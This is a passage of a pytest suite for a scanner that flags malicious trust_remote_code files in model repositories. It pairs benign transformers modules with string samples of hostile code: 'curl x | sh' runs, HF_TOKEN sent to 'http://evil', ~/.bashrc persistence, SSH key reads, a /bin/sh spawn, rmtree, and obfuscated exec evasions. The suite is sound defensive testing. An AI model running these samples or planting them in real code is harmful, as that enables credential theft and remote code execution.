"""Repositories that need trust_remote_code: auto_map configs and the Python files they run.

Every sample here is source text written to a temporary folder and only ever parsed by the
scanner: nothing is imported or executed (a canary file proves it). The benign samples mirror
real remote-code files (configuration, modeling and tokenization modules) and must stay below
HIGH; the malicious ones cover the evasions the analysis is meant to see through.
"""

from __future__ import annotations

import json
import os
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modeltrust import ScanResult, Severity, scan_paths
from modeltrust.cli import EXIT_FAILED, EXIT_OK, main
from modeltrust.findings import Finding, Location
from modeltrust.scanners.remote_code import names as remote_code
from modeltrust.scanners.remote_code.python import analyse_python

FUZZ = settings(
    max_examples=int(os.environ.get("MODELTRUST_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

CONFIGURATION = '''\
"""Foo model configuration"""

from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)

FOO_PRETRAINED_CONFIG_ARCHIVE_MAP = {}


class FooConfig(PretrainedConfig):
    model_type = "foo"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=4096,
        intermediate_size=11008,
        num_hidden_layers=32,
        num_attention_heads=32,
        hidden_act="silu",
        max_position_embeddings=2048,
        rms_norm_eps=1e-6,
        use_cache=True,
        rope_theta=10000.0,
        rope_scaling=None,
        attn_implementation="eager",
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.intermediate_size = intermediate_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.hidden_act = hidden_act
        self.max_position_embeddings = max_position_embeddings
        self.rms_norm_eps = rms_norm_eps
        self.use_cache = use_cache
        self.rope_theta = rope_theta
        self.rope_scaling = rope_scaling
        self._rope_scaling_validation()
        self.attn_implementation = attn_implementation
        super().__init__(**kwargs)

    def _rope_scaling_validation(self):
        if self.rope_scaling is None:
            return
        if not isinstance(self.rope_scaling, dict) or len(self.rope_scaling) != 2:
            raise ValueError(
                f"`rope_scaling` must be a dictionary with two fields, got {self.rope_scaling}"
            )
        rope_scaling_type = self.rope_scaling.get("type", None)
        if rope_scaling_type is None or rope_scaling_type not in ["linear", "dynamic"]:
            raise ValueError(f"unknown rope scaling type {rope_scaling_type}")
'''

MODELING = '''\
# coding=utf-8
"""PyTorch Foo model."""
import importlib.util
import math
import os
import warnings
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.utils import add_start_docstrings, is_flash_attn_2_available, logging

from .configuration_foo import FooConfig

try:
    from flash_attn import flash_attn_func, flash_attn_varlen_func
    from flash_attn.bert_padding import index_first_axis, pad_input, unpad_input
except ImportError:
    flash_attn_func = None

if importlib.util.find_spec("einops") is not None:
    from einops import rearrange

logger = logging.get_logger(__name__)
_CONFIG_FOR_DOC = "FooConfig"
_DEBUG = os.environ.get("FOO_DEBUG", "0") == "1"
os.environ["TOKENIZERS_PARALLELISM"] = "false"


@torch.jit.script
def fused_gelu(x):
    return x * 0.5 * (1.0 + torch.tanh(0.79788456 * x * (1 + 0.044715 * x * x)))


class FooRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        input_dtype = hidden_states.dtype
        variance = hidden_states.to(torch.float32).pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states.to(input_dtype)


class FooAttention(nn.Module):
    def __init__(self, config: FooConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.head_dim = config.hidden_size // config.num_attention_heads
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.k_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.v_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.o_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[config.hidden_act]
        self.pretraining_tp = getattr(config, "pretraining_tp", 1)
        self.compute_dtype = getattr(torch, getattr(config, "torch_dtype", None) or "float32")

    def forward(
        self,
        hidden_states: torch.Tensor,
        attention_mask: Optional[torch.Tensor] = None,
        past_key_value: Optional[Tuple[torch.Tensor]] = None,
        output_attentions: bool = False,
        use_cache: bool = False,
        compile: bool = False,
    ) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        bsz, q_len, _ = hidden_states.size()
        query = self.q_proj(hidden_states)
        key = self.k_proj(hidden_states)
        value = self.v_proj(hidden_states)
        if flash_attn_func is not None and self.config.attn_implementation == "flash":
            out = flash_attn_func(query, key, value, causal=True)
        else:
            scores = torch.matmul(query, key.transpose(1, 2)) / math.sqrt(self.head_dim)
            if attention_mask is not None:
                scores = scores + attention_mask
            out = torch.matmul(F.softmax(scores, dim=-1), value)
        if output_attentions:
            warnings.warn("output_attentions is not supported", UserWarning)
        if compile:
            logger.warning_once("compile is ignored")
        return self.o_proj(out), None


class FooPreTrainedModel(PreTrainedModel):
    config_class = FooConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["FooDecoderLayer"]

    def _init_weights(self, module):
        std = self.config.initializer_range if hasattr(self.config, "initializer_range") else 0.02
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)


class FooModel(FooPreTrainedModel):
    def __init__(self, config: FooConfig):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList([FooAttention(config, i) for i in range(config.num_hidden_layers)])
        self.norm = FooRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.gradient_checkpointing = False
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, **kwargs):
        hidden_states = self.embed_tokens(input_ids)
        for layer in self.layers:
            if self.gradient_checkpointing and self.training:
                hidden_states, _ = torch.utils.checkpoint.checkpoint(
                    layer.__call__, hidden_states, attention_mask, use_reentrant=False
                )
            else:
                hidden_states, _ = layer(hidden_states, attention_mask)
        return BaseModelOutputWithPast(last_hidden_state=self.norm(hidden_states))


class FooForCausalLM(FooPreTrainedModel):
    _tied_weights_keys = ["lm_head.weight"]

    def __init__(self, config):
        super().__init__(config)
        self.model = FooModel(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, labels=None, **kwargs):
        outputs = self.model(input_ids=input_ids, attention_mask=attention_mask)
        logits = self.lm_head(outputs.last_hidden_state).float()
        loss = None
        if labels is not None:
            loss = CrossEntropyLoss()(logits[..., :-1, :].reshape(-1, logits.size(-1)), labels[..., 1:].reshape(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits)

    @torch.no_grad()
    def chat(self, tokenizer, query: str, history: Optional[List] = None, **kwargs):
        self.eval()
        inputs = tokenizer([query], return_tensors="pt").to(self.device)
        outputs = self.generate(**inputs, **kwargs)
        return tokenizer.decode(outputs[0][len(inputs["input_ids"][0]):])
'''

TOKENIZATION = """\
import base64
import json
import os
import unicodedata
from functools import lru_cache
from shutil import copyfile
from typing import Dict, List, Optional, Tuple

import sentencepiece as spm
from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "vocab.json", "merges_file": "merges.txt", "bpe_file": "foo.tiktoken"}


@lru_cache()
def bytes_to_unicode():
    bs = list(range(ord("!"), ord("~") + 1)) + list(range(ord("\\xa1"), ord("\\xac") + 1))
    cs = bs[:]
    n = 0
    for b in range(2**8):
        if b not in bs:
            bs.append(b)
            cs.append(2**8 + n)
            n += 1
    cs = [chr(n) for n in cs]
    return dict(zip(bs, cs))


def _load_tiktoken_bpe(tiktoken_bpe_file: str) -> Dict[bytes, int]:
    with open(tiktoken_bpe_file, "rb") as f:
        contents = f.read()
    return {
        base64.b64decode(token): int(rank)
        for token, rank in (line.split() for line in contents.splitlines() if line)
    }


class FooTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(self, vocab_file, merges_file, bpe_file=None, errors="replace", **kwargs):
        with open(vocab_file, encoding="utf-8") as vocab_handle:
            self.encoder = json.load(vocab_handle)
        self.decoder = {v: k for k, v in self.encoder.items()}
        self.byte_encoder = bytes_to_unicode()
        self.byte_decoder = {v: k for k, v in self.byte_encoder.items()}
        with open(merges_file, "r", encoding="utf-8") as merges_handle:
            bpe_merges = merges_handle.read().split("\\n")[1:-1]
        self.bpe_ranks = dict(zip([tuple(m.split()) for m in bpe_merges], range(len(bpe_merges))))
        self.mergeable_ranks = _load_tiktoken_bpe(bpe_file) if bpe_file else {}
        self.sp_model = spm.SentencePieceProcessor()
        self.vocab_file = vocab_file
        super().__init__(errors=errors, **kwargs)

    @property
    def vocab_size(self):
        return len(self.encoder)

    def _tokenize(self, text):
        text = unicodedata.normalize("NFC", text)
        return ["".join(self.byte_encoder[b] for b in token.encode("utf-8")) for token in text.split()]

    def convert_tokens_to_string(self, tokens):
        text = "".join(tokens)
        return bytearray([self.byte_decoder[c] for c in text]).decode("utf-8", errors="replace")

    def save_vocabulary(self, save_directory: str, filename_prefix: Optional[str] = None) -> Tuple[str]:
        if not os.path.isdir(save_directory):
            logger.error(f"Vocabulary path ({save_directory}) should be a directory")
            return
        os.makedirs(save_directory, exist_ok=True)
        vocab_file = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(vocab_file, "w", encoding="utf-8") as f:
            f.write(json.dumps(self.encoder, indent=2, sort_keys=True, ensure_ascii=False) + "\\n")
        bpe_out = os.path.join(save_directory, "foo.tiktoken")
        with open(bpe_out, "w", encoding="utf8") as w:
            for k, v in self.mergeable_ranks.items():
                w.write(base64.b64encode(k).decode("utf8") + " " + str(v) + "\\n")
        if os.path.abspath(self.vocab_file) != os.path.abspath(vocab_file):
            copyfile(self.vocab_file, vocab_file)
        return (vocab_file,)
"""

AUTO_MAP = {
    "AutoConfig": "configuration_foo.FooConfig",
    "AutoModelForCausalLM": "modeling_foo.FooForCausalLM",
}
TOKENIZER_AUTO_MAP = {"AutoTokenizer": ["tokenization_foo.FooTokenizer", None]}


def _repo(root: Path, files: dict[str, str | bytes | dict[str, object]]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, dict):
            path.write_text(json.dumps(content), encoding="utf-8")
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return root


def _benign_repo(root: Path) -> Path:
    return _repo(
        root,
        {
            "config.json": {"model_type": "foo", "auto_map": AUTO_MAP, "hidden_size": 4096},
            "tokenizer_config.json": {"auto_map": TOKENIZER_AUTO_MAP, "model_max_length": 2048},
            "configuration_foo.py": CONFIGURATION,
            "modeling_foo.py": MODELING,
            "tokenization_foo.py": TOKENIZATION,
        },
    )


def _code(result: ScanResult, rule: str, at_least: Severity = Severity.INFO) -> list[Finding]:
    return [f for f in result.findings if f.rule_id == rule and f.severity >= at_least]


def _analyse(source: str) -> list[Finding]:
    return analyse_python(source.encode("utf-8"), Location("sample.py")).findings


def _explain(findings: list[Finding] | tuple[Finding, ...]) -> list[str]:
    return [f"{f.severity.label} {f.rule_id} {f.location}: {f.message}" for f in findings]


# --- happy path ----------------------------------------------------------------------------------


def test_benign_remote_code_repo_reports_only_that_it_needs_remote_code(tmp_path: Path) -> None:
    result = scan_paths([_benign_repo(tmp_path)])
    assert {f.rule_id for f in result.findings} == {"MT-CODE-001"}, _explain(result.findings)
    assert all(f.severity == Severity.MEDIUM for f in result.findings)
    where = {Path(f.location.path).name for f in result.findings}
    assert where == {"config.json", "tokenizer_config.json"}
    config = next(f for f in result.findings if f.location.path.endswith("/config.json"))
    assert "configuration_foo.py" in config.message and "modeling_foo.py" in config.message
    assert config.evidence is not None and "modeling_foo.FooForCausalLM" in config.evidence


@pytest.mark.parametrize("name", ["configuration_foo.py", "modeling_foo.py", "tokenization_foo.py"])
def test_benign_remote_code_files_have_no_findings(tmp_path: Path, name: str) -> None:
    _benign_repo(tmp_path)
    result = scan_paths([tmp_path / name])
    assert result.findings == (), _explain(result.findings)
    (scanned,) = result.files
    assert scanned.formats == ("python",)
    imports = dict(scanned.facts)["python.imports"]
    assert "transformers" in imports


def test_config_alone_still_analyses_the_code_it_names(tmp_path: Path) -> None:
    _repo(
        tmp_path,
        {
            "config.json": {"auto_map": {"AutoModel": "modeling_x.X"}},
            "modeling_x.py": "from .layers import Block\nclass X: pass\n",
            "layers.py": "import os\nos.system('id')\nclass Block: pass\n",
        },
    )
    result = scan_paths([tmp_path / "config.json"])
    (hit,) = _code(result, "MT-CODE-002")
    assert hit.location.path == os.fspath(tmp_path / "layers.py")
    assert hit.severity == Severity.CRITICAL and "os.system" in hit.message
    assert "line 2" in (hit.evidence or "")
    assert result.files[0].formats == ("transformers-config",)


def test_folder_scan_reports_each_problem_under_the_file_that_has_it(tmp_path: Path) -> None:
    _repo(
        tmp_path,
        {
            "config.json": {"auto_map": {"AutoModel": "modeling_x.X"}},
            "modeling_x.py": "import subprocess as sp\nsp.Popen(['id'])\n",
        },
    )
    result = scan_paths([tmp_path])
    distinct = set(_code(result, "MT-CODE-002"))  # the engine may list a repeat; one problem
    assert len(distinct) == 1
    (hit,) = distinct
    assert hit.location.path == os.fspath(tmp_path / "modeling_x.py")
    assert "subprocess.Popen" in hit.message


def test_cli_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    benign = _benign_repo(tmp_path / "benign")
    assert main(["scan", str(benign), "--no-progress"]) == EXIT_OK
    evil = _repo(
        tmp_path / "evil",
        {"config.json": {"auto_map": {"AutoModel": "m.X"}}, "m.py": "import os\nos.system('x')\n"},
    )
    assert main(["scan", str(evil), "--no-progress"]) == EXIT_FAILED
    capsys.readouterr()
    assert main(["scan", str(benign), "--fail-on", "medium", "-f", "json"]) == EXIT_FAILED
    doc = json.loads(capsys.readouterr().out)
    assert {f["rule_id"] for f in doc["findings"]} == {"MT-CODE-001"}
    formats = {f["path"].rsplit("/", 1)[-1]: f["formats"] for f in doc["files"]}
    assert formats["modeling_foo.py"] == ["python"]


# --- auto_map configs ----------------------------------------------------------------------------


def test_reference_to_another_repository_is_reported_as_not_analysed(tmp_path: Path) -> None:
    _repo(tmp_path, {"config.json": {"auto_map": {"AutoModel": "other/repo--modeling.X"}}})
    result = scan_paths([tmp_path])
    remote = _code(result, "MT-CODE-001")
    assert all(f.severity == Severity.MEDIUM for f in remote)
    other = [f for f in remote if "another repository" in f.message]
    assert len(other) == 1 and "'other/repo'" in other[0].message
    assert "scan 'other/repo' too" in other[0].message
    assert _code(result, "MT-CODE-004") == []  # nothing local is missing


@pytest.mark.parametrize(
    "reference",
    ["../../x.Y", "sub/../../x.Y", "/etc/evil.Y", "~/.cache/evil.Y", "C:\\evil.Y", "..\\x.Y"],
)
def test_reference_outside_the_folder_is_high(tmp_path: Path, reference: str) -> None:
    _repo(tmp_path / "repo", {"config.json": {"auto_map": {"AutoModel": reference}}})
    (tmp_path / "x.py").write_text("import os\nos.system('id')\n")
    result = scan_paths([tmp_path / "repo"])
    (outside,) = _code(result, "MT-CODE-001", Severity.HIGH)
    assert "outside the repository folder" in outside.message
    assert _code(result, "MT-CODE-002") == []  # the file outside is never read


def test_symlinked_code_is_analysed_where_it_points(tmp_path: Path) -> None:
    # The Hub cache keeps every file in ../../blobs and links to it: Python's import follows the
    # link, so the scanner reads the file it points to.
    blobs = tmp_path / "blobs"
    blobs.mkdir()
    (blobs / "abc123").write_text("import os\nos.system('id')\n")
    repo = _repo(tmp_path / "repo", {"config.json": {"auto_map": {"AutoModel": "modeling.X"}}})
    (repo / "modeling.py").symlink_to("../blobs/abc123")
    result = scan_paths([repo / "config.json"])
    assert _code(result, "MT-CODE-002")
    assert not [f for f in result.findings if "not a regular file" in f.message]


def test_missing_referenced_file_fails_closed(tmp_path: Path) -> None:
    _repo(tmp_path, {"config.json": {"auto_map": {"AutoModel": "modeling_gone.X"}}})
    result = scan_paths([tmp_path])
    (missing,) = _code(result, "MT-CODE-004")
    assert missing.severity == Severity.HIGH
    assert "modeling_gone.py" in missing.message and "not in the folder" in missing.message


def test_tokenizer_lists_with_nulls_subfolders_and_custom_pipelines(tmp_path: Path) -> None:
    _repo(
        tmp_path,
        {
            "tokenizer_config.json": {
                "auto_map": {"AutoTokenizer": [None, "sub/tok_fast.FastTok"]},
                "custom_pipelines": {"text-generation": {"impl": "pipe.MyPipeline", "pt": []}},
            },
            "sub/tok_fast.py": "import socket\nsocket.create_connection(('x', 1))\n",
            "pipe.py": "import requests\nrequests.get('http://x')\n",
        },
    )
    result = scan_paths([tmp_path / "tokenizer_config.json"])
    (remote,) = _code(result, "MT-CODE-001")
    assert "sub/tok_fast.py" in remote.message and "pipe.py" in remote.message
    flagged = {Path(f.location.path).name for f in _code(result, "MT-CODE-002", Severity.HIGH)}
    assert flagged == {"tok_fast.py", "pipe.py"}


def test_escaped_key_is_still_found(tmp_path: Path) -> None:
    text = '{"auto\\u005fmap": {"AutoModel": "m.X"}}'
    assert json.loads(text) == {"auto_map": {"AutoModel": "m.X"}}
    _repo(tmp_path, {"config.json": text, "m.py": "pass\n"})
    assert len(_code(scan_paths([tmp_path / "config.json"]), "MT-CODE-001")) == 1


def test_key_after_the_first_mebibyte_is_still_found(tmp_path: Path) -> None:
    padding = "x" * (2 * 1024 * 1024)
    text = json.dumps({"padding": padding, "auto_map": {"AutoModel": "m.X"}})
    _repo(tmp_path, {"config.json": text, "m.py": "pass\n"})
    assert len(_code(scan_paths([tmp_path / "config.json"]), "MT-CODE-001")) == 1


@pytest.mark.parametrize(
    "content",
    [
        {"model_type": "llama", "architectures": ["LlamaForCausalLM"]},
        {"nested": {"auto_map": {"AutoModel": "m.X"}}},  # not a top-level key: not read
        '["auto_map"]',
        "not json at all",
    ],
)
def test_configs_without_auto_map_are_not_reported(tmp_path: Path, content: object) -> None:
    _repo(tmp_path, {"config.json": content})  # type: ignore[dict-item]
    result = scan_paths([tmp_path / "config.json"])
    assert result.findings == ()
    assert result.files[0].formats == ("unknown",)


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ('{"auto_map": {"AutoModel": "m.X"', "not valid JSON"),
        ('{"auto_map": ["m.X"]}', "auto_map is not an object"),
        ('{"auto_map": {"AutoModel": 7}}', "not a class reference"),
        ('{"auto_map": {"AutoModel": "nodot"}}', "names no usable class reference"),
    ],
)
def test_malformed_auto_map_is_reported_not_raised(tmp_path: Path, text: str, needle: str) -> None:
    _repo(tmp_path, {"config.json": text})
    result = scan_paths([tmp_path / "config.json"])
    assert not [f for f in result.findings if f.rule_id == "MT-INT-001"]
    assert any(needle in f.message for f in _code(result, "MT-CODE-001")), _explain(result.findings)


def test_auto_map_inside_an_archive_is_reported_without_resolving_files(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "repo.zip", "w") as z:
        z.writestr("config.json", json.dumps({"auto_map": {"AutoModel": "m.X"}}))
        z.writestr("m.py", "import os\nos.system('id')\n")
        z.writestr("handlers/code/__torch__/h.py", "import pty\npty.spawn('/bin/sh')\n")
    result = scan_paths([tmp_path / "repo.zip"])
    assert len(_code(result, "MT-CODE-001")) == 1
    members = {f.location.members for f in _code(result, "MT-CODE-002", Severity.CRITICAL)}
    assert members == {("m.py",), ("handlers/code/__torch__/h.py",)}


# --- malicious code ------------------------------------------------------------------------------

MALICIOUS = {
    "os.system in a modeling file": (
        "import os\nclass M:\n    def __init__(self):\n        os.system('curl x | sh')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "subprocess.Popen through an alias": (
        "import subprocess as sp\nsp.Popen(['/bin/sh', '-c', 'id'])\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "subprocess.Popen",
    ),
    "from-import alias": (
        "from os import system as s\ns('id')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "star import": (
        "from subprocess import *\ncheck_output('id')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "subprocess.check_output",
    ),
    "exec of base64": (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "exec()",
    ),
    "exec of zlib(base64) through a variable": (
        (
            "import base64, zlib\nS = 'eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo='\n"
            "def run():\n    code = zlib.decompress(base64.b64decode(S))\n    exec(code)\n"
        ),
        "MT-CODE-003",
        Severity.CRITICAL,
        "exec()",
    ),
    "decoded payload through an attribute": (
        (
            "import base64\nclass M:\n    def __init__(self, s):\n        self.p = base64.b64decode(s)\n"
            "    def go(self):\n        eval(self.p)\n"
        ),
        "MT-CODE-003",
        Severity.CRITICAL,
        "eval()",
    ),
    "decoded payload through a function result": (
        "import codecs\ndef k(s):\n    return codecs.decode(s, 'rot13')\nexec(k(input()))\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "exec()",
    ),
    "pickle.loads of hex": (
        "import pickle\npickle.loads(bytes.fromhex(open('w').read()))\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "pickle.loads()",
    ),
    "eval of a non-constant": (
        "def f(config):\n    return eval(config.expr)\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "eval()",
    ),
    "__import__('os').system": (
        "__import__('os').system('id')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "getattr(__import__('builtins'), 'ex' + 'ec')": (
        "getattr(__import__('builtins'), 'ex' + 'ec')(input())\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "'exec'",
    ),
    "name from character codes": (
        "import importlib\nimportlib.import_module(''.join(map(chr, [111, 115]))).system('x')\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "'os'",
    ),
    "reversed name": (
        "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "sys.modules lookup": (
        "import sys\nsys.modules['subprocess'].run(['id'])\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "subprocess.run",
    ),
    "builtins through globals()": (
        "globals()['__builtins__']['exec'](input())\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "exec()",
    ),
    "computed import": (
        "import importlib\nmod = importlib.import_module(input())\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "computed at run time",
    ),
    "urllib exfiltration": (
        (
            "import urllib.request, os\n"
            "urllib.request.urlopen('http://evil/?k=' + os.environ.get('HF_TOKEN', ''))\n"
        ),
        "MT-CODE-002",
        Severity.HIGH,
        "urllib.request.urlopen",
    ),
    "requests upload": (
        "import requests\nrequests.post('http://evil', data=b'x')\n",
        "MT-CODE-002",
        Severity.HIGH,
        "network",
    ),
    "write to ~/.bashrc": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x|sh')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "~/.bashrc",
    ),
    "pathlib write to a start-up file": (
        "from pathlib import Path\n(Path.home() / '.profile').write_text('x')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "~/.profile",
    ),
    "read credentials": (
        "open('/root/.ssh/id_rsa').read()\n",
        "MT-CODE-002",
        Severity.HIGH,
        "credentials",
    ),
    "file write at import": (
        "open('cache.bin', 'wb').write(b'x')\n",
        "MT-CODE-002",
        Severity.HIGH,
        "for writing",
    ),
    "rmtree": (
        "import shutil\nshutil.rmtree('/data')\n",
        "MT-CODE-002",
        Severity.HIGH,
        "shutil.rmtree",
    ),
    "os.system passed as a value": (
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "__reduce__ gadget": (
        "import os\nclass G:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "os.system",
    ),
    "exec rebound after use": (
        "exec(input())\nexec = print\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "exec()",
    ),
    "shadowing in another function": (
        "def f():\n    from re import compile as eval\neval(input())\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "eval()",
    ),
    "multiprocessing": (
        "import multiprocessing\nmultiprocessing.Process(target=print).start()\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "multiprocessing.Process",
    ),
    "ctypes": (
        "import ctypes\nctypes.CDLL('libc.so.6')\n",
        "MT-CODE-002",
        Severity.CRITICAL,
        "ctypes.CDLL",
    ),
    "LD_PRELOAD": (
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
        "MT-CODE-002",
        Severity.HIGH,
        "LD_PRELOAD",
    ),
    "utf-7 source": (
        "# -*- coding: utf-7 -*-\nx = 1\n",
        "MT-CODE-003",
        Severity.CRITICAL,
        "utf-7",
    ),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_malicious_samples(tmp_path: Path, case: str) -> None:
    source, rule, severity, needle = MALICIOUS[case]
    _repo(tmp_path, {"config.json": {"auto_map": {"AutoModel": "modeling_x.X"}}})
    (tmp_path / "modeling_x.py").write_bytes(source.encode("utf-8"))
    result = scan_paths([tmp_path / "config.json"])
    hits = [f for f in _code(result, rule, severity) if needle in f.message]
    assert hits, _explain(result.findings)
    assert all(f.location.path.endswith("modeling_x.py") for f in hits)
    assert all(f.evidence and f.evidence.startswith("line ") for f in hits)


def test_constant_payload_is_decoded_and_analysed(tmp_path: Path) -> None:
    # exec(base64 of "import os; os.system('id')"), twice encoded.
    inner = "import base64\\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"
    findings = _analyse(f'exec("{inner}")\n')
    messages = [f.message for f in findings]
    assert any("passes to exec()" in m and "os.system" in m for m in messages), messages
    obfuscated = [f for f in findings if f.rule_id == "MT-CODE-003"]
    assert obfuscated and "decodes (base64)" in (obfuscated[0].evidence or "")


def test_scanning_never_runs_or_imports_the_code(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    payload = (
        f"open({str(canary)!r}, 'w').write('ran')\n"
        f"import os\nos.system('touch {canary}')\n"
        f"exec(\"open({str(canary)!r}, 'w')\")\n"
    )
    _repo(
        tmp_path,
        {
            "config.json": {"auto_map": {"AutoModel": "modeling_canary.X"}},
            "modeling_canary.py": payload,
            "__init__.py": payload,
        },
    )
    result = scan_paths([tmp_path])
    assert not canary.exists()
    assert "modeling_canary" not in sys.modules
    assert _code(result, "MT-CODE-002", Severity.CRITICAL)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.path.join('a', 'b')\nos.makedirs('out', exist_ok=True)\n",
        "import importlib\nimportlib.import_module('transformers.models.llama')\n",
        "import importlib\nimportlib.import_module(f'transformers.models.{name}')\n",
        "import importlib\nimportlib.import_module(f'.{name}', 'transformers.models')\n",
        "import torch\nx = torch.load('w.bin', map_location='cpu')\ny = torch.compile(x)\n",
        "import re\npattern = re.compile(r'\\s+')\n",
        "from huggingface_hub import hf_hub_download\np = hf_hub_download('a/b', 'w.bin')\n",
        "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.SafeLoader)\n",
        "import numpy as np\nnp.load('x.npy')\n",
        "def save_pretrained(self, d):\n    open(d + '/x.json', 'w').write('{}')\n",
        "import base64\nimage = base64.b64decode(data)\nprint(len(image))\n",
        "import subprocess\ndef f(p: subprocess.Popen) -> None: ...\n",
        "def forward(self, x, compile=False, eval=None):\n    return compile or eval\n",
        "import warnings, logging\nwarnings.warn('x')\nlogging.getLogger(__name__).info('y')\n",
        "model.eval()\nself.compile()\n",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
    ],
)
def test_benign_constructs_stay_below_high(source: str) -> None:
    serious = [f for f in _analyse(source) if f.severity >= Severity.HIGH]
    assert serious == [], _explain(serious)


def test_parser_warnings_neither_escape_nor_fail_the_file() -> None:
    # pytest turns warnings into errors here, so a leaked SyntaxWarning would fail this test.
    assert _analyse('import re\nP = re.compile("\\d+")\nassert (1, "x")\n') == []


def test_constant_exec_is_high_not_critical() -> None:
    (hit,) = _analyse("exec('x = 1')\n")
    assert hit.severity == Severity.HIGH and "constant string" in hit.message


# --- malformed input and limits ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        (b"def f(:\n    pass\n", Severity.MEDIUM),
        (b"print 'python 2'\nimport os\nos.system('id')\n", Severity.HIGH),
        (b"x = 1\x00\n", Severity.MEDIUM),
        (b"# coding: no-such-codec\nx = 1\n", Severity.MEDIUM),
        (b"\xff\xfe\xfa not utf-8\n", Severity.MEDIUM),
        (b"a" + b"+a" * 50_000, Severity.HIGH),
        (b"x = " + b"(" * 300 + b")" * 300, Severity.MEDIUM),
        (b"f" + b"()" * 20_000, Severity.HIGH),
    ],
)
def test_unparsable_files_are_findings(tmp_path: Path, data: bytes, severity: Severity) -> None:
    result = scan_paths([_repo(tmp_path, {"bad.py": data}) / "bad.py"])
    (finding,) = result.findings
    assert finding.rule_id == "MT-CODE-004" and finding.severity == severity
    assert result.files[0].formats == ("python",)


def test_python_larger_than_the_limit_fails_closed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
